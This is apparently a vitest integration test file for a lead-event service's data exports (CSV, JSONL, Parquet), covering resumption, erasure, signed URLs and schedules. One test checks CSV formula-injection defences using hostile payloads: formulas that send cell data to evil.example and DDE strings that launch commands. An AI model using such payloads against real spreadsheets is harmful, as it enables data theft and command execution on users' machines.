import { parse } from 'csv-parse/sync';
import { existsSync, mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { runArchiveSql } from '../../infra/local/athena.js';
import { LocalArchive } from '../../infra/local/local-archive.js';
import { LocalBus } from '../../infra/local/local-bus.js';
import { LocalExporter } from '../../infra/local/local-exporter.js';
import { ExportRunner } from '../../infra/local/job-runner.js';
import { StreamPoller } from '../../infra/local/stream-poller.js';
import { createDocumentClient } from '../../shared/adapters/aws-clients.js';
import { DynamoExportStore } from '../../shared/adapters/dynamo-export-store.js';
import { announceExportReady, EXPORT_COLUMNS, EXPORT_READY_DETAIL_TYPE, ExportErasedError, NUMERIC_COLUMNS, parseExportRequest, runExport, type ExportEngine, type ExportFormat, type ExportJob } from '../../shared/domain/exports.js';
import { runDueSchedules } from '../../shared/domain/export-schedules.js';
import { createFanoutHandler } from '../../shared/stream/handler.js';
import { toArchiveRow } from '../../shared/domain/archive.js';
import { setWebhookSecret } from '../../shared/domain/webhooks/secrets.js';
import { signTypeform, typeformResponse } from '../../infra/local/webhook-samples.js';
import { sampleEvent, startTestApi, type TestApi } from '../support/api.js';

/**
 * Exports (section 10) over a real local archive (the stream → fan-out → DuckDB Parquet path) holding every event
 * at least once, as Firehose does: each format's rows are exactly the matching events, once, masked, in order.
 */
let api: TestApi;
let orgId: string;
let key: string;
let archiveDir: string;
let exporter: LocalExporter;
const store = new DynamoExportStore(createDocumentClient({ endpoint: inject('dynamoEndpoint') }), inject('tableNames').control!);
const DAY = 86_400_000;
const today = Date.UTC(new Date().getUTCFullYear(), new Date().getUTCMonth(), new Date().getUTCDate());

async function feedArchive(withCheckpoint: boolean, checkpoint: string) {
  const archive = new LocalArchive({ dir: archiveDir, maxRows: 25 });
  await archive.start();
  await new StreamPoller({
    endpoint: inject('dynamoEndpoint'), tableName: inject('tableNames').events!, handler: createFanoutHandler({ bus: new LocalBus(), archive }), batchSize: 1000,
    ...(withCheckpoint ? { checkpointFile: checkpoint } : {}),
  }).drain();
  await archive.stop();
}

beforeAll(async () => {
  api = await startTestApi();
  ({ orgId, key } = await api.newOrg());
  archiveDir = mkdtempSync(join(tmpdir(), 'leadlog-exports-archive-'));
  exporter = new LocalExporter({ archiveDir, exportDir: api.deps.config.exportDir! });
  // 40 purchases over two days, 10 views; one purchase's order id is 18 digits (written into the JSON text).
  const purchases = Array.from({ length: 40 }, (_, i) => sampleEvent({
    lead_id: `lead_${i % 7}`, event_type: 'purchase_completed', external_event_id: `order_${i}`, occurred_at: new Date(today - 2 * DAY + i * 3_600_000 + 1000).toISOString(),
    payload: { product_id: 'p1', product_name: 'Course', category: 'education', amount: 10 + i, currency: 'BRL', payment_method: 'pix', order_id: i === 3 ? '__BIG__' : i },
    lead_snapshot: { email: `buyer${i}@example.com`, first_name: 'Ana' },
  }));
  const views = Array.from({ length: 10 }, (_, i) => sampleEvent({ lead_id: `lead_${i}`, external_event_id: `view_${i}`, occurred_at: new Date(today - DAY + i * 60_000).toISOString() }));
  const raw = JSON.stringify({ events: [...purchases, ...views] }).replace('"__BIG__"', '828758318460506337');
  const stored = await api.request('POST', '/v1/events/batch', { key, rawBody: raw, headers: { 'content-type': 'application/json' } });
  expect(stored.body.results.map((r: { status: string }) => r.status)).toEqual(Array(50).fill('created'));
  const checkpoint = join(archiveDir, 'checkpoint.json');
  await feedArchive(true, checkpoint);
  await feedArchive(false, checkpoint); // the stream again from its start: rows archived twice, as Firehose may
  const copies = await runArchiveSql(archiveDir, 'SELECT count(*) AS n, count(DISTINCT id) AS ids FROM events_raw WHERE org_id = ?', [orgId]);
  expect(Number(copies.rows[0]!.ids)).toBe(50);
  expect(Number(copies.rows[0]!.n)).toBeGreaterThan(50); // copies to deduplicate
}, 120_000);
afterAll(() => api.close());

async function exportOf(format: ExportFormat, filter: Record<string, unknown>, engine: ExportEngine = exporter, org = orgId): Promise<ExportJob> {
  const orgId = org;
  const { filter: parsed } = parseExportRequest({ format, filter });
  const job: ExportJob = {
    orgId, id: `ex_${format}_${Math.random().toString(16).slice(2)}`, format, filter: parsed, status: 'queued',
    requestedAt: new Date().toISOString(), settleUntil: new Date().toISOString(), daysDone: 0, rows: 0, bytes: 0,
  };
  await store.save(job);
  for (;;) {
    const step = await runExport({ store, engine, nowMs: () => Date.now() }, orgId, job.id);
    if ('done' in step) return step.done;
  }
}

const range = { from: new Date(today - 3 * DAY).toISOString(), to: new Date(today + DAY).toISOString() };

describe('exports', () => {
  it('CSV: a header of the archive columns, then exactly the matching events once, in order, masked', async () => {
    const job = await exportOf('csv', { ...range, type: 'purchase_completed' });
    expect(job).toMatchObject({ status: 'succeeded', rows: 40, daysDone: job.days!.length });
    const text = readFileSync(exporter.fileOf(job), 'utf8');
    expect(job.bytes).toBe(Buffer.byteLength(text));
    const { rows: csv } = await runArchiveSql(archiveDir, `SELECT * FROM read_csv(${`'${exporter.fileOf(job)}'`}, header = true, all_varchar = true)`);
    expect(text.split('\n')[0]).toBe(EXPORT_COLUMNS.join(','));
    expect(csv).toHaveLength(40);
    const timeline = await api.request('GET', `/v1/events?type=purchase_completed&from=${range.from}&to=${range.to}&limit=1000`, { key });
    expect(csv.map((r) => r.id)).toEqual(timeline.body.items.map((e: { id: string }) => e.id));
    expect(csv[0]!.occurred_at).toBe(timeline.body.items[0].occurred_at);
    expect(JSON.parse(csv[0]!.lead_snapshot as string)).toEqual({ email: 'b***@example.com', first_name: 'A***' });
    expect(text).toContain('828758318460506337');
    expect(text).not.toContain('buyer0@example.com');
  });

  it('JSONL: one JSON object a line with JSON columns nested and every digit kept', async () => {
    const job = await exportOf('jsonl', { ...range, source: 'web' });
    expect(job).toMatchObject({ status: 'succeeded', rows: 50 });
    const lines = readFileSync(exporter.fileOf(job), 'utf8').trim().split('\n');
    expect(lines).toHaveLength(50);
    const first = JSON.parse(lines[0]!) as Record<string, unknown>;
    expect(Object.keys(first)).toEqual(EXPORT_COLUMNS);
    expect(typeof first.payload).toBe('object');
    expect(new Set(lines.map((l) => (JSON.parse(l) as { id: string }).id)).size).toBe(50);
    expect(lines.find((l) => l.includes('"order_id":828758318460506337'))).toBeDefined();
  });

  it('Parquet: the same rows, read back by DuckDB', async () => {
    const job = await exportOf('parquet', { ...range, type: 'purchase_completed,product_viewed', lead_id: 'lead_3' });
    const expected = [...Array(40).keys()].filter((i) => i % 7 === 3).length + 1; // lead_3's purchases and its one view
    expect(job).toMatchObject({ status: 'succeeded', rows: expected });
    const { rows } = await runArchiveSql(archiveDir, `SELECT count(*) AS n, count(DISTINCT id) AS ids, min(lead_id) AS lead FROM read_parquet('${exporter.fileOf(job)}')`);
    expect(rows[0]).toEqual({ n: String(expected), ids: String(expected), lead: 'lead_3' });
  });

  it('an empty match is a file with no rows, not a failure', async () => {
    const job = await exportOf('csv', { ...range, type: 'source.*' });
    expect(job).toMatchObject({ status: 'succeeded', rows: 0 });
    expect(readFileSync(exporter.fileOf(job), 'utf8')).toBe(`${EXPORT_COLUMNS.join(',')}\n`);
  });

  it('resumes after a crash between days, with no row twice and none lost', async () => {
    let calls = 0;
    const crashing: ExportEngine = {
      days: (job) => exporter.days(job),
      holdsLeads: (job, leadIds) => exporter.holdsLeads(job, leadIds),
      discard: (job) => exporter.discard(job),
      writeDay: async (job, day) => {
        if (++calls === 2) throw Object.assign(new Error('simulated crash'), { crash: true });
        return exporter.writeDay(job, day);
      },
      finish: (job) => exporter.finish(job),
    };
    const { filter } = parseExportRequest({ format: 'csv', filter: range });
    const job: ExportJob = { orgId, id: 'ex_crash', format: 'csv', filter, status: 'queued', requestedAt: new Date().toISOString(), settleUntil: new Date().toISOString(), daysDone: 0, rows: 0, bytes: 0 };
    await store.save(job);
    const interrupted = await runExport({ store, engine: crashing, nowMs: () => Date.now() }, orgId, job.id);
    // The engine failed: the job says so (a failure is reported, not retried forever)…
    expect('done' in interrupted && interrupted.done.status).toBe('failed');
    // …while a process crash (the run never returns) leaves it running at its last day: simulated by restoring that state.
    const saved = (await store.get(orgId, job.id))!;
    await store.save({ ...saved, status: 'running', error: undefined as never, daysDone: 1, rows: saved.rows });
    let done: ExportJob | undefined;
    while (!done) {
      const step = await runExport({ store, engine: exporter, nowMs: () => Date.now() }, orgId, job.id);
      if ('done' in step) done = step.done;
    }
    expect(done).toMatchObject({ status: 'succeeded', rows: 50 });
    const ids = readFileSync(exporter.fileOf(done), 'utf8').trim().split('\n').slice(1).map((line) => line.split(',')[0]);
    expect(new Set(ids).size).toBe(50);
  });

  it('an export erased while it runs (section 9) stops, removes what it wrote, and stays erased', async () => {
    const { filter } = parseExportRequest({ format: 'csv', filter: range });
    const job: ExportJob = {
      orgId, id: `ex_erased_${Math.random().toString(16).slice(2)}`, format: 'csv', filter, status: 'queued',
      requestedAt: new Date().toISOString(), settleUntil: new Date().toISOString(), daysDone: 0, rows: 0, bytes: 0,
    };
    await store.save(job);
    let days = 0;
    const racing: ExportEngine = {
      days: (j) => exporter.days(j),
      holdsLeads: (j, leadIds) => exporter.holdsLeads(j, leadIds),
      discard: (j) => exporter.discard(j),
      finish: (j) => exporter.finish(j),
      writeDay: async (j, day) => {
        // The erasure marks the job between two days; this day's part is written all the same.
        if (++days === 2) await store.save({ ...(await store.get(orgId, j.id))!, status: 'erased', erasureId: 'er_test' });
        return exporter.writeDay(j, day);
      },
    };
    const step = await runExport({ store, engine: racing, nowMs: () => Date.now() }, orgId, job.id);
    expect(step).toMatchObject({ done: { status: 'erased' } });
    expect(await store.get(orgId, job.id)).toMatchObject({ status: 'erased', erasureId: 'er_test' });
    expect(existsSync(join(api.deps.config.exportDir!, '_parts', orgId, job.id))).toBe(false);
    expect(existsSync(exporter.fileOf(job))).toBe(false);
    // Saving it in another status is refused; a later step finds it done.
    await expect(store.save({ ...job, status: 'succeeded' })).rejects.toBeInstanceOf(ExportErasedError);
    expect(await runExport({ store, engine: racing, nowMs: () => Date.now() }, orgId, job.id)).toMatchObject({ done: { status: 'erased' } });
    expect((await store.list(orgId)).find((j) => j.id === job.id)?.status).toBe('erased');
  });

  it('refuses a bad request naming every bad field', () => {
    expect(() => parseExportRequest({ format: 'xml', filter: { from: 'yesterday', type: 'nope', extra: 1 } })).toThrow(expect.objectContaining({
      errors: expect.arrayContaining([
        expect.objectContaining({ path: 'format' }), expect.objectContaining({ path: 'filter.from' }), expect.objectContaining({ path: 'filter.to' }),
        expect.objectContaining({ path: 'filter.type' }), expect.objectContaining({ path: 'filter.extra' }),
      ]),
    }));
  });

  it('through the API: 202, progress, then a download URL valid an hour that a tampered or foreign request cannot use', async () => {
    // The API refuses a `to` more than 5 minutes ahead (section 3): up to now.
    const started = await api.request('POST', '/v1/exports', { key, body: { format: 'jsonl', filter: { ...range, to: new Date().toISOString(), type: 'product_viewed' } } });
    expect(started.status).toBe(202);
    expect(started.headers.get('location')).toBe(`/v1/exports/${started.body.id}`);
    expect(started.body).toMatchObject({ status: 'queued', format: 'jsonl', rows: 0, bytes: 0 });
    const runner = new ExportRunner({ store, engine: exporter });
    let job = started.body;
    for (let i = 0; i < 50 && job.status !== 'succeeded'; i++) {
      await runner.tick();
      await new Promise((r) => setTimeout(r, 200));
      job = (await api.request('GET', `/v1/exports/${started.body.id}`, { key })).body;
    }
    expect(job).toMatchObject({ status: 'succeeded', rows: 10 });
    expect(Date.parse(job.url_expires_at) - Date.now()).toBeGreaterThan(3_500_000);
    const file = await fetch(job.url);
    expect(file.status).toBe(200);
    const lines = (await file.text()).trim().split('\n');
    expect(lines.map((l) => (JSON.parse(l) as { event_type: string }).event_type)).toEqual(Array(10).fill('product_viewed'));
    expect((await fetch(job.url.replace(/signature=.{4}/, 'signature=AAAA'))).status).toBe(403);
    expect((await fetch(job.url.replace(/expires=\d+/, 'expires=1'))).status).toBe(403);
    // Another org's key does not see the job; a bad request names every bad field.
    const other = await api.newOrg();
    expect((await api.request('GET', `/v1/exports/${started.body.id}`, { key: other.key })).status).toBe(404);
    const bad = await api.request('POST', '/v1/exports', { key, body: { format: 'pdf', filter: { from: range.to, to: range.from } } });
    expect(bad.status).toBe(400);
    expect(bad.body.errors.map((e: { path: string }) => e.path)).toEqual(['format']);
  });

  it('schedules: created, listed and deleted through the API; a fake clock starts each due run once, for the period just ended, and Export Ready follows', async () => {
    const created = await api.request('POST', '/v1/exports/schedules', { key, body: { name: 'daily views', every: 'day', format: 'csv', filter: { type: 'product_viewed' } } });
    expect(created.status).toBe(201);
    expect(created.body).toMatchObject({ name: 'daily views', every: 'day', format: 'csv', next_run_at: new Date(today + DAY).toISOString() });
    expect((await api.request('GET', '/v1/exports/schedules', { key })).body.items.map((s: { id: string }) => s.id)).toContain(created.body.id);
    const other = await api.newOrg();
    expect((await api.request('GET', '/v1/exports/schedules', { key: other.key })).body.items).toEqual([]);
    const bad = await api.request('POST', '/v1/exports/schedules', { key, body: { every: 'hour', format: 'csv', filter: { from: range.from } } });
    expect(bad.body.errors.map((e: { path: string }) => e.path).sort()).toEqual(['every', 'filter.from', 'name']);

    // The clock, a minute after midnight: yesterday's run starts once, however many clocks tick.
    const ports = { schedules: api.deps.exports.schedules, exports: { store, scheduler: api.deps.exports.scheduler } };
    const clock = today + DAY + 60_000;
    const mine = (jobs: ExportJob[]) => jobs.filter((j) => j.scheduleId === created.body.id);
    const [run] = mine((await runDueSchedules(ports, clock, 0)).started);
    expect(mine((await runDueSchedules(ports, clock + 1000, 0)).started)).toEqual([]);
    expect(run!.filter).toMatchObject({ fromMs: today, toMs: today + DAY, types: [{ equals: 'product_viewed' }] });
    expect((await api.request('GET', '/v1/exports/schedules', { key })).body.items.find((s: { id: string }) => s.id === created.body.id).next_run_at).toBe(new Date(today + 2 * DAY).toISOString());

    // A subscriber's rule for it, as a user would add one.
    const bus = new LocalBus({ rules: [{ id: 'exports', description: 'Export Ready', pattern: { source: ['leadlog'], 'detail-type': [EXPORT_READY_DETAIL_TYPE] } }] });
    const ready: unknown[] = [];
    bus.onDelivery((d) => d.event['detail-type'] === EXPORT_READY_DETAIL_TYPE && d.event.detail.schedule_id === created.body.id && ready.push(d.event.detail));
    // The run as the runner would take it, on the fake clock (its archive has settled by then).
    let step;
    do step = await runExport({ store, engine: exporter, nowMs: () => clock + 5000, announce: announceExportReady(bus) }, orgId, run!.id);
    while (!('done' in step));
    await new Promise((r) => setTimeout(r, 100));
    expect(ready).toEqual([{ org_id: orgId, export_id: run!.id, schedule_id: created.body.id, rows: 0, format: 'csv' }]);
    expect((await api.request('GET', `/v1/exports/${run!.id}`, { key })).body).toMatchObject({ status: 'succeeded', schedule_id: created.body.id });

    expect((await api.request('DELETE', `/v1/exports/schedules/${created.body.id}`, { key })).status).toBe(204);
    expect((await api.request('DELETE', `/v1/exports/schedules/${created.body.id}`, { key })).status).toBe(404);
    expect(mine((await runDueSchedules(ports, clock + 2 * DAY, 0)).started)).toEqual([]);
  });

  it("CSV never runs a formula: text cells from API payloads and a public form's hidden fields that begin with =, +, -, @, tab or CR get a leading '", async () => {
    const other = await api.newOrg();
    const at = new Date(today - DAY + 7_200_000).toISOString();
    const formula = {
      lead: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', reason: "+cmd|' /C calc'!A0", flow: '@SUM(1+1)*cmd|\' /C calc\'!A0',
      step: "-2+3+cmd|' /C calc'!A0", entity: '=1+1', object: '+2+2',
    };
    const fromApi = await api.request('POST', '/v1/events', { key: other.key, body: sampleEvent({
      lead_id: formula.lead, event_type: 'recipient.failed', source_type: 'internal', source: 'leadconduit', outcome: 'failure', occurred_at: at,
      reason: formula.reason, flow_id: formula.flow, step_id: formula.step, entity_id: formula.entity, object_id: formula.object, payload: {},
    }) });
    expect(fromApi.status, JSON.stringify(fromApi.body)).toBe(201);
    const purchase = await api.request('POST', '/v1/events', { key: other.key, body: sampleEvent({
      lead_id: 'lead_refund', event_type: 'purchase_completed', external_event_id: 'refund_1', occurred_at: at,
      payload: { product_id: 'p1', product_name: '=1+1', category: 'education', amount: 5, currency: 'BRL', payment_method: 'pix', order_id: 1 },
    }) });
    expect(purchase.status, JSON.stringify(purchase.body)).toBe(201);
    // The API refuses negative amounts; an archived row may still hold one (a provider's refund): it stays a number.
    const negative = new LocalArchive({ dir: archiveDir, maxRows: 25 });
    await negative.start();
    // The API trims leading white space; a row may still begin with a tab or a carriage return (a provider's text).
    const base = toArchiveRow(purchase.body.event);
    await negative.putRows([
      { ...base, id: '00000000-0000-4000-8000-00000000000a', external_event_id: 'refund_2', amount: -5, price: -0.5 },
      { ...base, id: '00000000-0000-4000-8000-00000000000b', external_event_id: 'ws_tab', event_type: 'recipient.error', reason: '\t=1+1' },
      { ...base, id: '00000000-0000-4000-8000-00000000000c', external_event_id: 'ws_cr', event_type: 'recipient.error', reason: '\r@SUM(1)' },
    ]);
    await negative.stop();
    // A respondent of a public Typeform fills the hidden fields (they ride in the form's URL).
    const secret = `typeform_${Math.random().toString(36).slice(2)}`;
    await setWebhookSecret(api.deps.webhookSecrets, { orgId: other.orgId, provider: 'typeform', secret, nowIso: new Date().toISOString() });
    const form = typeformResponse({ email: 'resp@example.com', phone: '+5511987654321' }, { leadId: '@SUM(A1:A9)' }) as { form_response: { hidden: Record<string, string>; submitted_at: string } };
    form.form_response.hidden.utm_source = '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")';
    const body = JSON.stringify(form);
    expect((await api.request('POST', `/v1/webhooks/typeform/${other.orgId}`, { rawBody: body, headers: signTypeform(body, secret) })).status).toBe(200);
    await feedArchive(false, '');

    const job = await exportOf('csv', range, exporter, other.orgId);
    expect(job).toMatchObject({ status: 'succeeded', rows: 6 });
    // Read back as a spreadsheet's importer would: a real CSV parser.
    const rows = parse(readFileSync(exporter.fileOf(job), 'utf8'), { columns: true }) as Record<string, string>[];
    const failed = rows.find((r) => r.event_type === 'recipient.failed')!;
    expect(failed).toMatchObject({
      lead_id: `'${formula.lead}`, reason: `'${formula.reason}`, flow_id: `'${formula.flow}`, step_id: `'${formula.step}`,
      entity_id: `'${formula.entity}`, object_id: `'${formula.object}`, source: 'leadconduit',
    });
    expect(rows.filter((r) => r.event_type === 'recipient.error').map((r) => r.reason).sort()).toEqual(["'\t=1+1", "'\r@SUM(1)"]);
    const refund = rows.find((r) => r.external_event_id === 'refund_2')!;
    // A real number is a number: amount -5 stays -5 (a quote would turn it into text); the JSON payload cell starts with `{`.
    expect(Number(refund.amount)).toBe(-5);
    expect(Number(refund.price)).toBe(-0.5);
    expect(JSON.parse(refund.payload!)).toMatchObject({ product_name: '=1+1' });
    const submitted = rows.find((r) => r.event_type === 'form_submitted')!;
    expect(submitted.lead_id).toBe("'@SUM(A1:A9)");
    expect(JSON.parse(submitted.payload!).hidden.utm_source).toBe(form.form_response.hidden.utm_source);
    // No cell of the file begins like a formula, but the number columns' real numbers.
    for (const row of rows) {
      for (const [column, value] of Object.entries(row)) if (!NUMERIC_COLUMNS.has(column)) expect(/^[=+\-@\t\r]/.test(value), `${column}: ${value}`).toBe(false);
    }
    // JSONL keeps every value exactly as sent (no spreadsheet reads it).
    const jsonl = await exportOf('jsonl', range, exporter, other.orgId);
    const lines = readFileSync(exporter.fileOf(jsonl), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(lines.find((l) => l.event_type === 'recipient.failed')).toMatchObject({ lead_id: formula.lead, step_id: formula.step });
  });
});


describe('JSONL of large rows', () => {
  it('a lead of 200 events of ~225 KB exports as JSONL (it ran out of DuckDB memory), each line equal to DuckDB\'s own JSON of the row', async () => {
    const other = await api.newOrg();
    const at = new Date(today - DAY + 3_600_000).toISOString();
    const stored = await api.request('POST', '/v1/events', { key: other.key, body: sampleEvent({ lead_id: 'fat', occurred_at: at, external_event_id: 'fat_seed' }) });
    expect(stored.status).toBe(201);
    const dir = mkdtempSync(join(tmpdir(), 'leadlog-exports-fat-'));
    const archive = new LocalArchive({ dir, maxRows: 50 });
    await archive.start();
    const note = 'n'.repeat(110_000);
    const base = toArchiveRow({ ...stored.body.event, payload: { ...stored.body.event.payload, note, order_id: JSON.rawJSON('828758318460506337') }, lead_snapshot: { note } });
    await archive.putRows(Array.from({ length: 200 }, (_, i) => ({ ...base, id: `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`, external_event_id: `fat_${i}` })));
    await archive.stop();
    const fat = new LocalExporter({ archiveDir: dir, exportDir: api.deps.config.exportDir! });
    const job = await exportOf('jsonl', { ...range, lead_id: 'fat' }, fat, other.orgId);
    expect(job).toMatchObject({ status: 'succeeded', rows: 200 });
    const lines = readFileSync(fat.fileOf(job), 'utf8').trim().split('\n');
    expect(lines).toHaveLength(200);
    expect(lines[0]).toContain('"order_id":828758318460506337');
    // The same rows as DuckDB writes JSON (small enough here: its own rendering of two rows), value for value.
    const { rows } = await runArchiveSql(dir, `SELECT to_json(t) AS line FROM (SELECT * EXCLUDE (payload, lead_snapshot), CAST(payload AS JSON) AS payload, CAST(lead_snapshot AS JSON) AS lead_snapshot FROM events WHERE org_id = ? ORDER BY occurred_at, id LIMIT 2) t`, [other.orgId]);
    const ours = lines.slice(0, 2).map((l) => JSON.parse(l) as Record<string, unknown>);
    const theirs = rows.map((r) => JSON.parse(String(r.line)) as Record<string, unknown>);
    for (const [i, line] of ours.entries()) {
      expect(Object.keys(line)).toEqual(EXPORT_COLUMNS);
      for (const column of ['id', 'lead_id', 'event_type', 'payload', 'lead_snapshot', 'amount'] as const) expect(line[column], column).toEqual(theirs[i]![column]);
    }
  }, 120_000);
});
